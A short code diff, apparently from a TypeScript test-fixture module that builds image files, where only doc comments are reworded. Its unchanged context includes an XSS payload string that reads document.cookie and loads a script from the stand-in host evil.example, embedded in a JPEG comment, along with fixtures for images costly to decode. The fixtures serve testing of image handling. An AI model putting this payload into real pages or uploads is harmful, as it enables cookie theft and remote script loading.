@@ -28,7 +28,7 @@ export async function photo(
 }
 
 /**
- * A picture with a red left half and a blue right half, stored turned by 90° with its EXIF tag.
+ * Returns a picture with a red left and a blue right half, stored turned by 90° with an EXIF tag.
  * @param times multiple of 400 × 300
  */
 export async function turnedPhoto(times = 1): Promise<Buffer> {
@@ -91,7 +91,7 @@ export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: 
   ]);
 }
 
-/** Pictures that cost much more to decode than their size suggests. */
+/** Returns pictures that cost much more to decode than their size suggests. */
 export async function costlyFiles(): Promise<Record<string, Buffer>> {
   const frames = await Promise.all(Array.from({ length: 300 }, () => photo(16, 16)));
   return {
@@ -119,7 +119,7 @@ export async function costlyFiles(): Promise<Record<string, Buffer>> {
 
 export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';
 
-/** Files that are not a picture, are incomplete, or contain something else too. */
+/** Returns files that are not a picture, are incomplete, or contain something else too. */
 export async function oddFiles(): Promise<Record<string, Buffer>> {
   const jpeg = await photo();
   const commentary = Buffer.from(`*/=1;${script}/*`);
